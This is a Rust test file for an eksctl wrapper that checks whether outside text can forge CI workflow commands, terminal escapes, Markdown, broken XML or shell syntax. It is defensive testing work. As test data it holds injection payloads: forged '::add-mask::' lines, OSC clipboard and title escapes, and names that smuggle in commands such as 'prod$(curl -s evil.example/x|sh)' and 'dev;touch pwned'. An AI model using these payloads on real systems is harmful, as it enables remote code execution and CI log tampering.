//! Text from outside is data (issue 23, B6-B9, B11, B12, B18, B19): strings the shim
//! did not write (stack Outputs, config names and comments, file names, names read from a
//! log, an endpoint URL) never become a workflow command, a terminal escape, Markdown
//! structure, invalid XML or shell syntax, and never a password on screen. The built
//! binary, against moto; the Outputs are made hostile with UpdateStack.

use std::process::Output;

use crate::common::moto::Moto;
use crate::common::*;
use serde_json::json;

/// A drifted cluster `name` whose stack Output `key` has `tail` appended.
fn hostile_outputs(name: &str, key: &str, tail: &str) -> Moto {
    let moto = Moto::start();
    moto.world(json!({"cluster": name, "moved": true, "delete": ["private-a", "private-b"]}));
    moto.py(&format!(
        "name = 'eksctl-{name}-cluster'\n\
         t = cfn.get_template(StackName=name)['TemplateBody']\n\
         t = t if isinstance(t, dict) else json.loads(t)\n\
         t['Outputs'][{key:?}]['Value'] += bytes.fromhex('{tail}').decode()\n\
         tags = cfn.describe_stacks(StackName=name)['Stacks'][0].get('Tags', [])\n\
         cfn.update_stack(StackName=name, TemplateBody=json.dumps(t), Tags=tags)\n",
        tail = tail.bytes().map(|b| format!("{b:02x}")).collect::<String>(),
    ));
    moto
}

const FORGED: &str = ",subnet-0dead\n::add-mask::LEAKME\n::error file=x::forged";

/// Lines (as a runner splits them, at LF and CR) that a runner reads as a workflow
/// command, other than the annotations the shim writes itself.
fn forged_commands(text: &str) -> Vec<String> {
    text.split(['\n', '\r'])
        .filter(|l| {
            let t = l.trim_start();
            let ours = ["::error ", "::warning ", "::notice "]
                .iter()
                .any(|a| t.starts_with(a))
                && t.contains("title=eksctl-shim");
            (t.starts_with("::") || l.contains("##[")) && !ours
        })
        .map(str::to_string)
        .collect()
}

fn no_forged_commands(what: &str, out: &Output) {
    for (stream, text) in [("stdout", stdout(out)), ("stderr", stderr(out))] {
        let forged = forged_commands(&shim_text(&text));
        assert!(forged.is_empty(), "{what} {stream}: {forged:?}\n{text}");
    }
}

/// `text` without eksctl's own lines (`2026-01-01 10:00:00 [ℹ]  ...`, `Error: ...`),
/// which pass through byte for byte whatever they hold.
fn shim_text(text: &str) -> String {
    let eksctl = |l: &str| {
        let b = l.as_bytes();
        l.starts_with("Error: ")
            || (b.len() > 20
                && b[..4].iter().all(u8::is_ascii_digit)
                && b[4] == b'-'
                && b[13] == b':')
    };
    text.lines()
        .filter(|l| !eksctl(l))
        .map(|l| format!("{l}\n"))
        .collect()
}

/// Replaces the model of eksctl with one that only says its version (0.230.0) and then
/// writes `stderr` and exits `code`: everything else on stdout and stderr is the shim's.
fn quiet_eksctl(sb: &Sandbox, stderr: &str, code: i32) {
    use std::os::unix::fs::PermissionsExt;
    let at = sb.path("real/eksctl");
    std::fs::write(
        &at,
        format!(
            "#!/bin/sh\nif [ \"$1\" = version ]; then echo 0.230.0; exit 0; fi\nprintf '%s' '{stderr}' >&2\nexit {code}\n"
        ),
    )
    .unwrap();
    std::fs::set_permissions(&at, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn config(cluster: &str, nodegroup: &str) -> String {
    format!(
        "apiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: {{name: {cluster}, region: us-west-2}}\nmanagedNodeGroups:\n  - name: {}\n    privateNetworking: true\n",
        serde_json::to_string(nodegroup).unwrap()
    )
}

#[test]
fn b6_forged_workflow_commands_from_a_stack_output_never_start_a_line() {
    let moto = hostile_outputs("hout", "SubnetsPrivate", FORGED);
    let sb = Sandbox::new();
    quiet_eksctl(&sb, "", 0);
    let face = sb
        .eksctl_run([
            "create",
            "nodegroup",
            "--cluster",
            "hout",
            "--name",
            "n1",
            "--node-private-networking",
        ])
        .version("0.230.0")
        .aws(&moto)
        .envs(&[("GITHUB_ACTIONS", "true"), ("EKSCTL_SHIM_MODE", "strict")])
        .go();
    // The hostile part is shown, as data, on the finding's line.
    face.says("subnet-0dead\\n::add-mask::LEAKME");
    no_forged_commands("strict face", &face.out);
    let check = sb.shim_run(["check", "--cluster", "hout"]).aws(&moto).go();
    check.exits(3).prints("subnet-0dead\\n::add-mask::LEAKME");
    no_forged_commands("check", &check.out);
    let sync = sb
        .shim_run(["sync-outputs", "--cluster", "hout"])
        .aws(&moto)
        .go();
    sync.prints("old: ");
    no_forged_commands("sync-outputs", &sync.out);
}

#[test]
fn b6_file_and_nodegroup_names_carry_no_workflow_command() {
    let moto = Moto::start();
    moto.world(json!({"cluster": "hout", "moved": true, "delete": ["private-a", "private-b"]}));
    let sb = Sandbox::new();
    quiet_eksctl(&sb, "", 0);
    std::fs::create_dir_all(sb.path("cfg")).unwrap();
    let newline_name = "cfg/ng\n::add-mask::FROM-FILENAME\n.yaml";
    std::fs::write(sb.path(newline_name), config("hout", "n2")).unwrap();
    let legacy_name = "cfg/x##[error]forged.yaml";
    std::fs::write(
        sb.path(legacy_name),
        config("hout", "ng##[stop-commands]tok"),
    )
    .unwrap();
    for (file, mode) in [(newline_name, "fix"), (legacy_name, "strict")] {
        let face = sb
            .eksctl_run(["create", "nodegroup", "-f", file])
            .version("0.230.0")
            .aws(&moto)
            .envs(&[("GITHUB_ACTIONS", "true"), ("EKSCTL_SHIM_MODE", mode)])
            .go();
        assert!(face.stderr().contains("subnet-drift"), "{}", face.stderr());
        no_forged_commands(file, &face.out);
        let plan = sb
            .shim_run(["plan", "--", "create", "nodegroup", "-f", file])
            .version("0.230.0")
            .aws(&moto)
            .go();
        assert!(
            plan.stdout().contains("decision:"),
            "{:?} {}{}",
            plan.out.status,
            plan.stdout(),
            plan.stderr()
        );
        no_forged_commands(file, &plan.out);
        for format in ["json", "junit"] {
            let check = sb
                .shim_run(["check", "-f", file, "--output", format])
                .aws(&moto)
                .go();
            no_forged_commands(format, &check.out);
        }
    }
}

#[test]
fn b7_the_step_summary_keeps_its_table_and_its_code_block() {
    let moto = hostile_outputs(
        "h3",
        "SubnetsPrivate",
        ",subnet-0dead\r\r## All checks passed\r\r<img src=x>",
    );
    let sb = Sandbox::new();
    let summary = sb.path("s1.md");
    sb.eksctl_run([
        "create",
        "nodegroup",
        "--cluster",
        "h3",
        "--name",
        "n1",
        "--node-private-networking",
    ])
    .version("0.230.0")
    .aws(&moto)
    .env("GITHUB_ACTIONS", "true")
    .env("GITHUB_STEP_SUMMARY", &summary)
    .go();
    let md = std::fs::read_to_string(&summary).unwrap();
    assert!(!md.contains('\r'), "{md:?}");
    assert!(!md.contains("<img"), "{md}");
    let row = md
        .lines()
        .find(|l| l.contains("subnet-drift"))
        .unwrap_or_else(|| panic!("{md}"));
    assert!(row.contains("\\#\\# All checks passed"), "{row}");
    assert!(row.ends_with(" |"), "the row keeps its last column: {row}");

    std::fs::create_dir_all(sb.path("cfg")).unwrap();
    let name = "cfg/a\n```\n## Injected heading\n```\n.yaml";
    std::fs::write(sb.path(name), config("h3", "n2")).unwrap();
    let summary = sb.path("s2.md");
    sb.eksctl_run(["create", "nodegroup", "-f", name])
        .version("0.230.0")
        .aws(&moto)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_STEP_SUMMARY", &summary)
        .go()
        .exits(0);
    let md = std::fs::read_to_string(&summary).unwrap();
    assert!(md.contains("What the shim changed"), "{md}");
    assert!(
        !md.lines().any(|l| l.starts_with("## Injected heading")),
        "{md}"
    );
    // The block is fenced by more backticks than any run inside it.
    let fence = md
        .lines()
        .skip_while(|l| !l.starts_with("What the shim changed"))
        .find(|l| l.starts_with("```"))
        .unwrap();
    assert!(fence.starts_with("````"), "{md}");
}

#[test]
fn b8_escape_sequences_from_aws_and_config_comments_reach_no_terminal() {
    // OSC 52 (clipboard) and OSC 0 (title) as C1 controls: XML carries them, so moto does.
    let moto = hostile_outputs(
        "h4",
        "SubnetsPrivate",
        ",subnet-0\u{9d}52;c;ZWNobyBwd25lZA==\u{9c}\u{9d}0;PWNED-TITLE\u{9c}",
    );
    let sb = Sandbox::new();
    // As on a terminal: anstream keeps what it is given.
    let check = sb
        .shim_run(["check", "--cluster", "h4"])
        .aws(&moto)
        .env("CLICOLOR_FORCE", "1")
        .go();
    check.exits(3).prints("subnet-0\\u{9d}52;c;");
    assert!(!check.stdout().contains('\u{9d}'), "{:?}", check.stdout());

    let esc = config("h4", "n1").replace(
        "privateNetworking: true",
        "privateNetworking: true # \u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J",
    );
    std::fs::write(sb.path("esc.yaml"), esc).unwrap();
    let plan = sb
        .shim_run(["plan", "--", "create", "nodegroup", "-f", "esc.yaml"])
        .version("0.230.0")
        .aws(&moto)
        .go();
    assert!(plan.stdout().contains("PWNED-TITLE"), "{}", plan.stdout());
    assert!(!plan.stdout().contains('\u{1b}'), "{:?}", plan.stdout());
    let face = sb
        .eksctl_run(["create", "nodegroup", "-f", "esc.yaml"])
        .version("0.230.0")
        .aws(&moto)
        .env("CLICOLOR_FORCE", "1")
        .go();
    face.says("PWNED-TITLE");
    assert!(!face.stderr().contains("\u{1b}]"), "{:?}", face.stderr());
    assert!(!face.stderr().contains("\u{1b}[2J"), "{:?}", face.stderr());
}

/// The backticked commands of `text`, each checked as a POSIX shell would read it when
/// pasted: outside single quotes (and `$'...'`), no expansion, no second command, no
/// line break; `<name>` placeholders allowed.
fn assert_safe_to_paste(text: &str) {
    let commands: Vec<&str> = text.split('`').skip(1).step_by(2).collect();
    assert!(!commands.is_empty(), "no command in {text}");
    for cmd in commands {
        let mut quoted = false;
        let mut chars = cmd.chars().peekable();
        let unplaced = regex_free_placeholders(cmd);
        while let Some(c) = chars.next() {
            match c {
                '\'' => quoted = !quoted,
                '$' if !quoted && chars.peek() == Some(&'\'') => {
                    chars.next();
                    // $'...': up to the next quote not escaped.
                    while let Some(c) = chars.next() {
                        match c {
                            '\\' => {
                                chars.next();
                            }
                            '\'' => break,
                            _ => {}
                        }
                    }
                }
                '$' | ';' | '|' | '&' | '(' | ')' | '\n' | '\r' | '"' | '\\' if !quoted => {
                    panic!("{c:?} unquoted in `{cmd}`")
                }
                '<' | '>' if !quoted && !unplaced => panic!("{c:?} unquoted in `{cmd}`"),
                _ => {}
            }
        }
        assert!(!quoted, "unbalanced quote in `{cmd}`");
    }
}

/// Whether every `<`/`>` of `cmd` belongs to a `<name>` placeholder.
fn regex_free_placeholders(cmd: &str) -> bool {
    let mut rest = cmd;
    while let Some(i) = rest.find(['<', '>']) {
        if !rest[i..].starts_with('<') {
            return false;
        }
        let Some(end) = rest[i..].find('>') else {
            return false;
        };
        if !rest[i + 1..i + end]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == ' ')
        {
            return false;
        }
        rest = &rest[i + end + 1..];
    }
    true
}

#[test]
fn b9_names_from_a_log_go_into_advice_quoted_or_not_at_all() {
    let sb = Sandbox::new();
    std::fs::write(
        sb.path("ci.log"),
        "2026-01-01 10:00:00 [ℹ]  creating EKS cluster \"prod$(curl -s evil.example/x|sh)\" in \"us-west-2\" region with managed nodes\n\
         Error: failed to create cluster \"prod$(curl -s evil.example/x|sh)\"\n",
    )
    .unwrap();
    let ran = sb.shim_run(["explain", "ci.log"]).go();
    let out = ran.stdout();
    assert!(out.contains("eksctl delete cluster"), "{out}");
    assert!(!out.contains("--name=prod$(curl"), "{out}");
    assert_safe_to_paste(
        out.lines()
            .find(|l| l.contains("eksctl delete cluster"))
            .unwrap(),
    );
    // A profile given on the command line is quoted too.
    let ran = sb
        .shim_run(["explain", "ci.log", "--profile", "dev;touch pwned"])
        .go();
    let line = ran
        .stdout()
        .lines()
        .find(|l| l.contains("eksctl delete cluster"))
        .unwrap()
        .to_string();
    assert!(line.contains("--profile 'dev;touch pwned'"), "{line}");
    assert_safe_to_paste(&line);
}

#[test]
fn b11_junit_is_well_formed_whatever_the_names() {
    let moto = Moto::start();
    let sb = Sandbox::new();
    std::fs::write(
        sb.path("u.yaml"),
        "apiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata:\n  name: \"prod\\uFFFF\\uFFFE##[error]x\"\n  region: us-west-2\nmanagedNodeGroups:\n  - name: n1\n",
    )
    .unwrap();
    let ran = sb
        .shim_run(["check", "-f", "u.yaml", "--output", "junit"])
        .aws(&moto)
        .go();
    std::fs::write(sb.path("r.xml"), ran.out.stdout.as_slice()).unwrap();
    let parsed = std::process::Command::new(python())
        .args([
            "-c",
            "import sys, xml.dom.minidom as m; d = m.parse(sys.argv[1]); print(d.getElementsByTagName('testsuite')[0].getAttribute('name'))",
        ])
        .arg(sb.path("r.xml"))
        .output()
        .unwrap();
    assert!(
        parsed.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&parsed.stderr),
        ran.stdout()
    );
    // The name reads back with U+FFFD for what XML cannot hold, `##[` intact as data.
    assert!(
        String::from_utf8_lossy(&parsed.stdout).starts_with("prod\u{fffd}\u{fffd}##[error]x"),
        "{}",
        String::from_utf8_lossy(&parsed.stdout)
    );
    no_forged_commands("junit", &ran.out);
}

#[test]
fn b12_plan_write_force_never_overwrites_the_config_through_a_hard_link() {
    let moto = Moto::start();
    moto.world(json!({"cluster": "drifted", "moved": true, "delete": ["private-a", "private-b"]}));
    let sb = Sandbox::new();
    let original = config("drifted", "n1");
    std::fs::write(sb.path("ng.yaml"), &original).unwrap();
    std::fs::hard_link(sb.path("ng.yaml"), sb.path("other-name.yaml")).unwrap();
    let write_force = |to: &str| {
        sb.shim_run([
            "plan",
            "--write",
            to,
            "--force",
            "--",
            "create",
            "nodegroup",
            "-f",
            "ng.yaml",
        ])
        .version("0.230.0")
        .aws(&moto)
        .go()
    };
    write_force("other-name.yaml")
        .exits(2)
        .says("other-name.yaml is the config the command reads");
    assert_eq!(
        std::fs::read_to_string(sb.path("ng.yaml")).unwrap(),
        original
    );
    // Another file is still replaced with --force.
    std::fs::write(sb.path("old.yaml"), "x").unwrap();
    write_force("old.yaml").exits(0);
    assert!(
        std::fs::read_to_string(sb.path("old.yaml"))
            .unwrap()
            .contains("subnets"),
    );
}

#[test]
fn b18_doctor_never_prints_the_password_of_an_endpoint() {
    let moto = Moto::start();
    let sb = Sandbox::new();
    let endpoint = format!("http://user:S3CRET-PASS@127.0.0.1:{}", moto.port);
    let ran = sb
        .shim_run(["doctor"])
        .aws(&moto)
        .env("AWS_ENDPOINT_URL", &endpoint)
        .env("AWS_ENDPOINT_URL_EKS", &endpoint)
        .go();
    ran.prints("EKS http://***@127.0.0.1:");
    assert!(!ran.stdout().contains("S3CRET-PASS"), "{}", ran.stdout());
    assert!(!ran.stderr().contains("S3CRET-PASS"), "{}", ran.stderr());
}

#[test]
fn b19_the_failure_advice_fills_config_names_safely() {
    let moto = Moto::start();
    moto.world(json!({"cluster": "drifted", "moved": true, "delete": ["private-a", "private-b"]}));
    let sb = Sandbox::new();
    std::fs::write(
        sb.path("n.yaml"),
        config("drifted", "ng\n::add-mask::SECRET\n::stop-commands::tok"),
    )
    .unwrap();
    // eksctl fails as it does when a nodegroup stack fails; the advice names the
    // config's nodegroup.
    quiet_eksctl(
        &sb,
        "Error: failed to create nodegroups for cluster \"drifted\"\n",
        1,
    );
    let ran = sb
        .eksctl_run(["create", "nodegroup", "-f", "n.yaml"])
        .aws(&moto)
        .env("GITHUB_ACTIONS", "true")
        .go();
    let advice: Vec<String> = ran
        .stderr()
        .lines()
        .filter(|l| l.contains("eksctl delete nodegroup"))
        .map(str::to_string)
        .collect();
    assert!(!advice.is_empty(), "{}", ran.stderr());
    for line in &advice {
        assert_safe_to_paste(line);
        assert!(line.contains("--name=$'ng\\n::add-mask::SECRET"), "{line}");
    }
    no_forged_commands("failure advice", &ran.out);
}
